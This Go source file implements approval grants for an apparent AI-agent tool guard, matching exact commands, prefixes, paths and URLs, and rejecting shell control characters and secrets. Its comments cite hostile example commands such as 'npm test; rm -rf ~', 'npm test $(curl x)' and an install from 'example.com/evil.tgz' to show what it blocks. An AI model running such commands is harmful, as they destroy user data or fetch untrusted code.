package approval

import (
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/toolguard/toolguard/audit"
	"github.com/toolguard/toolguard/call"
	"github.com/toolguard/toolguard/policy"
	"github.com/toolguard/toolguard/risk"
)

// Grant is a remembered approval: calls it covers (see [Grant.Matches])
// that would ask are allowed. A grant is exactly what the person saw:
// approving a shell command remembers that command, not every command
// that starts with it, unless the person chose a prefix; approving another
// tool remembers the paths and URLs the call touched, or its arguments.
type Grant struct {
	// Tool is the tool name as the agent sends it ("Bash", "Write") or a
	// tool kind ("shell", "write"); compared case-insensitively. Required.
	Tool string `json:"tool"`
	// Command limits the grant to exactly this shell command (blanks
	// around it ignored), whatever the agent calls its shell tool.
	Command string `json:"command,omitempty"`
	// CommandPrefix limits the grant to shell commands starting with it
	// (see [Grant.Matches]), whatever the agent calls its shell tool.
	CommandPrefix string `json:"command_prefix,omitempty"`
	// Paths and URLs limit the grant to calls of Tool that touch only
	// these (and at least one of them).
	Paths []string `json:"paths,omitempty"`
	URLs  []string `json:"urls,omitempty"`
	// Digest limits the grant to calls of Tool with exactly these
	// arguments ("sha256:" and the hex digest of [call.ArgsDigest]), for a call
	// that names no path or URL.
	Digest string `json:"digest,omitempty"`
	// Scope is Session or Always (Once is never stored).
	Scope Scope `json:"scope"`
	// Session is the agent session a Session grant belongs to; empty for
	// Always grants.
	Session string `json:"session,omitempty"`
	// Created is when the grant was made.
	Created time.Time `json:"created"`
}

// Pattern renders the grant as decisions name it in their rule
// ("grant:Bash(npm test)"): "Tool(command)" for an exact command,
// "Tool(prefix:*)" for a prefix, "Tool(path P, url U)" for paths and URLs,
// "Tool(args sha256:…)" for arguments, and "Tool" for the whole tool.
// [ParseGrantPattern] reads the first, second and last forms.
func (g Grant) Pattern() string {
	return policy.Grant{Tool: g.Tool, Command: g.Command, CommandPrefix: g.CommandPrefix, Paths: g.Paths, URLs: g.URLs, Digest: g.Digest}.Label()
}

// ParseGrantPattern parses "Tool", "Tool(command)" (exactly that command)
// or "Tool(prefix:*)" (commands starting with the prefix, for example
// "Bash(npm test:*)") into a Grant with Scope Once and no session; the
// caller sets those.
func ParseGrantPattern(s string) (Grant, error) {
	s = strings.TrimSpace(s)
	open := strings.IndexByte(s, '(')
	if open < 0 {
		return validGrant(Grant{Tool: s}, s)
	}
	if !strings.HasSuffix(s, ")") {
		return Grant{}, fmt.Errorf("grant pattern %q: write Tool, Tool(command) or Tool(command prefix:*), e.g. Bash(npm test:*)", s)
	}
	g := Grant{Tool: strings.TrimSpace(s[:open])}
	inner := strings.TrimSpace(s[open+1 : len(s)-1])
	if prefix, ok := strings.CutSuffix(inner, ":*"); ok {
		g.CommandPrefix = strings.TrimSpace(prefix)
		if g.CommandPrefix == "" {
			return Grant{}, fmt.Errorf("grant pattern %q: the command prefix is empty; write just %q to grant the whole tool", s, g.Tool)
		}
	} else if g.Command = inner; g.Command == "" {
		return Grant{}, fmt.Errorf("grant pattern %q: the command is empty; write just %q to grant the whole tool", s, g.Tool)
	}
	return validGrant(g, s)
}

func validGrant(g Grant, s string) (Grant, error) {
	if g.Tool == "" || strings.ContainsAny(g.Tool, "() \t\n\"'") {
		return Grant{}, fmt.Errorf("grant pattern %q: the tool name must be a non-empty word, e.g. Bash or Write", s)
	}
	if i := strings.IndexAny(g.CommandPrefix, controlChars); i >= 0 {
		return Grant{}, fmt.Errorf("grant pattern %q: the command prefix may not contain %q (shell control characters)", s, g.CommandPrefix[i])
	}
	return g, nil
}

// controlChars may appear neither in a command prefix nor after it in a
// command a prefix grant covers: they would chain, redirect or substitute
// another command.
const controlChars = ";&|<>$`\n\r\\()"

// Matches reports whether the grant covers call c:
//   - a Session grant belongs to c's session (a call without a session
//     matches no Session grant);
//   - with Command, c is a shell call of exactly that command, blanks
//     around it ignored;
//   - with a CommandPrefix, c is a shell call whose command, blanks around
//     it trimmed, starts with the prefix followed by the end or a blank, and
//     contains none of ; & | < > $ ` \ ( ) or a line break. So "npm test"
//     covers "npm test --watch" but not "npm testx", "npm test; rm -rf ~",
//     "npm test $(curl x)" or "npm test > out". This is deliberately
//     stricter than a shell parse: a command a prefix cannot vouch for stays
//     an ask;
//   - otherwise the tool name (or kind) equals Tool, case-insensitively,
//     and with Paths or URLs c touches at least one path or URL and only
//     those; with Digest c's arguments have that digest.
func (g Grant) Matches(c call.Call) bool {
	if g.Scope == Session && (g.Session == "" || g.Session != c.Who.Session) {
		return false
	}
	switch {
	case g.Command != "":
		return c.Kind == call.Shell && strings.Trim(c.Command, " \t") == g.Command
	case g.CommandPrefix != "":
		return c.Kind == call.Shell && prefixCovers(g.CommandPrefix, c.Command)
	}
	if !strings.EqualFold(g.Tool, c.Tool) && !strings.EqualFold(g.Tool, string(c.Kind)) {
		return false
	}
	switch {
	case len(g.Paths)+len(g.URLs) > 0:
		return len(c.Paths)+len(c.URLs) > 0 && subset(c.Paths, g.Paths) && subset(c.URLs, g.URLs)
	case g.Digest != "":
		return call.ArgsDigest(c) == g.Digest
	}
	return true
}

func subset(xs, of []string) bool {
	for _, x := range xs {
		if !slices.Contains(of, x) {
			return false
		}
	}
	return true
}

func prefixCovers(prefix, command string) bool {
	cmd := strings.Trim(command, " \t")
	if !strings.HasPrefix(cmd, prefix) || strings.ContainsAny(cmd, controlChars) {
		return false
	}
	rest := cmd[len(prefix):]
	return rest == "" || rest[0] == ' ' || rest[0] == '\t'
}

// ApplyGrants returns d with its ask turned into allow when one of grants
// matches c. Only a plain ask can be granted: deny stays deny, allow stays
// allow, and an unverifiable ask (part of the call could not be known
// statically) stays ask — a grant made for a command someone saw cannot
// vouch for one nobody can see. The allowed decision names the grant in its
// rule ("grant:Bash(npm test:*)") and keeps the findings.
func ApplyGrants(d policy.Decision, c call.Call, grants []Grant) policy.Decision {
	if d.Verdict != risk.Ask || d.Unverifiable {
		return d
	}
	for _, g := range grants {
		if g.Matches(c) {
			d.Verdict = risk.Allow
			d.Rule = "grant:" + g.Pattern()
			d.Reason = fmt.Sprintf("allowed by the %s grant %s (it would otherwise ask: %s)", g.Scope, g.Pattern(), d.Reason)
			return d
		}
	}
	return d
}

// GrantFor returns the grant that an approval of r with scope s records:
// for a shell call the exact command (so approving "npm install" does not
// approve "npm install https://example.com/evil.tgz"), for another tool the
// paths and URLs it touched, or its arguments' digest when it names
// neither. It reports false when the answer cannot be remembered: scope
// Once, a Session scope without a session id, an empty command, or an
// unverifiable decision, or a command or URL carrying a secret (a grant
// is stored, and the audit log's redaction would find it).
func GrantFor(r Request, s Scope, now time.Time) (Grant, bool) {
	return GrantWith(r, s, "", now)
}

// GrantWith is GrantFor with the prefix a person chose for a shell call:
// the grant then covers commands that start with it (see [Grant.Matches]).
// The prefix must be the command's first words (it ends where a word ends)
// and hold no shell control characters; otherwise, or when the command
// itself holds control characters that no prefix grant could match, it
// reports false. An empty prefix means the exact command.
func GrantWith(r Request, s Scope, prefix string, now time.Time) (Grant, bool) {
	c := r.Call
	if s == Once || r.Decision.Unverifiable || (s == Session && c.Who.Session == "") || c.Tool == "" {
		return Grant{}, false
	}
	g := Grant{Tool: c.Tool, Scope: s, Created: now.UTC()}
	if s == Session {
		g.Session = c.Who.Session
	}
	if c.Kind == call.Shell || c.Command != "" {
		cmd := strings.Trim(c.Command, " \t")
		prefix = strings.Trim(prefix, " \t")
		switch {
		case cmd == "" || strings.HasSuffix(cmd, ":*"): // its pattern would read as a prefix
			return Grant{}, false
		case audit.RedactString(cmd) != cmd: // a grant is stored: it must not keep a secret
			return Grant{}, false
		case prefix == "":
			g.Command = cmd
		case PrefixChoice(cmd, prefix):
			g.CommandPrefix = prefix
		default:
			return Grant{}, false
		}
		return g, true
	}
	if prefix != "" {
		return Grant{}, false
	}
	g.Paths, g.URLs = sortedCopy(c.Paths), sortedCopy(c.URLs)
	for _, u := range g.URLs {
		if audit.RedactString(u) != u { // a token in a URL must not be stored
			return Grant{}, false
		}
	}
	if len(g.Paths)+len(g.URLs) == 0 {
		g.Digest = call.ArgsDigest(c)
	}
	return g, true
}

// PrefixChoice reports whether prefix is one of [Prefixes] of command.
func PrefixChoice(command, prefix string) bool {
	return slices.Contains(Prefixes(command), prefix)
}

// Prefixes are the prefixes a person may widen a grant of a shell command
// to, longest first: its leading words, down to the program and its first
// argument ("npm install lodash --save" → "npm install lodash",
// "npm install"), never the program alone. None for a command of one or
// two words or with shell control characters.
func Prefixes(command string) []string {
	cmd := strings.Trim(command, " \t")
	if strings.ContainsAny(cmd, controlChars) {
		return nil
	}
	words := strings.Fields(cmd)
	var out []string
	for n := len(words) - 1; n >= 2; n-- {
		out = append(out, strings.Join(words[:n], " "))
	}
	return out
}

func sortedCopy(xs []string) []string {
	if len(xs) == 0 {
		return nil
	}
	out := slices.Clone(xs)
	slices.Sort(out)
	return slices.Compact(out)
}
